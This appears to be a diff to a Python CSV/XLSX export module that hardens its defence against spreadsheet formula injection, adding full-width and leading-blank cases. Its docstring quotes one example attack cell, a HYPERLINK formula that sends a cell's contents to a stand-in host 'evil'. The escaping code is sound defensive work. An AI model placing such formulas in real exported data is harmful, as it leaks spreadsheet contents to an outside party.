@@ -2,7 +2,8 @@
 
 Names and titles come from the public (an organisation may call itself
 `=HYPERLINK("http://evil/?"&A1;"Kliknij")`): a spreadsheet program opening a CSV turns a cell
-that starts with `=`, `+`, `-`, `@`, a tab or a carriage return into a formula, and openpyxl
+that starts with `=`, `+`, `-`, `@`, a tab or a carriage return into a formula (some also
+after blanks or a line break, or for the full-width `＝ ＋ － ＠`), and openpyxl
 writes any string starting with `=` into an XLSX as a formula. So (OWASP, "CSV injection"):
 
 - in CSV such a text cell gets a leading apostrophe (`'=HYPERLINK(...)`), which spreadsheets
@@ -17,14 +18,22 @@ import io
 import re
 from typing import Any
 
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_START = ("=", "+", "-", "@",
+                 # the full-width forms, which some spreadsheets (Excel in East Asian
+                 # locales) read as the ASCII ones
+                 "\uff1d", "\uff0b", "\uff0d", "\uff20")
+CONTROL_START = ("\t", "\r", "\n")
+# what a spreadsheet may skip before it looks for a formula's start
+_LEADING_BLANKS = " \t\r\n\u00a0\u3000"
 _NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
 
 
 def csv_cell(value: Any) -> Any:
-    """A CSV cell that no spreadsheet reads as a formula."""
-    if isinstance(value, str) and value.startswith(FORMULA_START) \
-            and not _NUMBER.fullmatch(value):
+    """A CSV cell that no spreadsheet reads as a formula: one starting with a tab or a line
+    break, or whose first character after blanks starts a formula (plain numbers aside)."""
+    if isinstance(value, str) and (value.startswith(CONTROL_START) or (
+            value.lstrip(_LEADING_BLANKS).startswith(FORMULA_START)
+            and not _NUMBER.fullmatch(value))):
         return "'" + value
     return value
 
